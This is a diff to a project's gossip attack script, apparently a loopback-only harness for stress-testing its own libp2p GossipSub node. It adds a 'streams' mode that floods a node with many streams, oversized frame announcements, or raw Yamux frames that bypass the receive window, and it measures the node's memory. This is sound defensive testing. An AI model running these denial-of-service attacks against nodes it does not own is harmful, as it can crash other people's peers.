@@ -4,7 +4,7 @@ in docs/gossip.md; loopback only, never aim it at a node that is not yours.
 
     python scripts/attack_gossip.py junk ADDR [--senders 5]
     python scripts/attack_gossip.py mss-prefix ADDR [--connections 8] [--mib 64]
-    python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16]
+    python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16] [--kind KIND]
     python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30]
     python scripts/attack_gossip.py measure ATTACK [its options]   # a fresh node's RSS under it
 
@@ -16,6 +16,7 @@ from __future__ import annotations
 import argparse
 import os
 import socket
+import struct
 import sys
 import threading
 import time
@@ -91,6 +92,80 @@ def junk(addr: str, senders: int) -> None:
         for n in range(senders):
             await one(n)
         _say("done")
+
+    trio.run(main)
+
+
+# ------------------------------------------------------------ one handshake, many streams
+
+
+def streams(addr: str, count: int, mib: int, kind: str) -> None:
+    """One fresh key, one connection, then `count` streams at once, each carrying `mib` MiB:
+    `frames`: GossipSub streams whose frames announce 1 GiB; `open`: GossipSub streams that stay
+    open and silent, each a reader the node keeps; `window`: data pushed down the
+    node's own GossipSub stream to us, which it only writes to (Yamux's receive window, not
+    enforced by 0.8.1, is all that should bound it)."""
+    import multiaddr
+    import trio
+    from libp2p import new_host
+    from libp2p.crypto.ed25519 import create_new_key_pair
+    from libp2p.peer.peerinfo import info_from_p2p_addr
+    from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
+
+    from node.identity import Identity
+
+    _tcp_target(addr)
+    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))
+    chunk = b"\x00" * (64 << 10)
+    sent = [0]
+    opened = [0]
+
+    async def push(stream) -> None:
+        try:
+            if kind == "open":
+                return
+            if kind == "frames":
+                await stream.write(_uvarint(1 << 30))
+            # Down the node's own stream, as raw Yamux DATA frames: no send window is honoured.
+            muxed = stream.muxed_stream
+            header = struct.pack("!BBHII", 0, 0, 0, muxed.stream_id, len(chunk))
+            for _ in range(mib * 16):
+                if kind == "window":
+                    await muxed.muxed_conn._write_frame(header + chunk)
+                else:
+                    await stream.write(chunk)
+                sent[0] += len(chunk)
+        except Exception as exc:
+            _say("stream closed:", type(exc).__name__)
+
+    async def main() -> None:
+        me = Identity.generate()
+        host = new_host(key_pair=create_new_key_pair(me.seed), muxer_preference="YAMUX")
+        async with (
+            host.run(listen_addrs=[multiaddr.Multiaddr(LOOPBACK)]),
+            trio.open_nursery() as nursery,
+        ):
+            if kind == "window":  # the node opens its GossipSub stream to us: write down it
+                host.set_stream_handler(PROTOCOL_ID_V11, push)
+            _say("attacker", me.peer_id)
+            with trio.fail_after(20):
+                await host.connect(info)
+            _say("connected")
+            if kind in ("frames", "open"):
+                for _ in range(count):
+                    try:
+                        with trio.fail_after(10):
+                            stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
+                    except Exception as exc:
+                        _say("stream refused:", type(exc).__name__)
+                        continue
+                    opened[0] += 1
+                    nursery.start_soon(push, stream)
+            with trio.move_on_after(float(os.environ.get("ATTACK_SECONDS", "20"))):
+                while True:
+                    await trio.sleep(1)
+            nursery.cancel_scope.cancel()
+        _say("done", opened[0], "streams opened,", sent[0] >> 20, "MiB sent")
 
     trio.run(main)
 
@@ -176,7 +251,7 @@ def measure(attack_args: list[str]) -> None:
             _say(run.stdout.strip().splitlines()[-1] if run.stdout.strip() else run.stderr[-300:])
             _say(f"{' '.join(attack_args)}: RSS before {before / 1024:.0f} MiB, peak "
                  f"{peak / 1024:.0f} MiB, after {after / 1024:.0f} MiB; node alive: "
-                 f"{node.poll() is None}; restarts {counts['restarts']}")  # fmt: skip
+                 f"{node.poll() is None}; counts {counts}")  # fmt: skip
         finally:
             node.kill()
             node.wait()
@@ -188,13 +263,17 @@ if __name__ == "__main__":
         measure(sys.argv[2:])
         raise SystemExit(0)
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    parser.add_argument("attack", choices=["junk", "mss-prefix"])
+    parser.add_argument("attack", choices=["junk", "mss-prefix", "streams"])
     parser.add_argument("addr")
     parser.add_argument("--senders", type=int, default=5)
     parser.add_argument("--connections", type=int, default=8)
     parser.add_argument("--mib", type=int, default=64)
+    parser.add_argument("--streams", type=int, default=128)
+    parser.add_argument("--kind", choices=["frames", "open", "window"], default="frames")
     args = parser.parse_args()
     if args.attack == "junk":
         junk(args.addr, args.senders)
     elif args.attack == "mss-prefix":
         mss_prefix(args.addr, args.connections, args.mib)
+    elif args.attack == "streams":
+        streams(args.addr, args.streams, args.mib, args.kind)
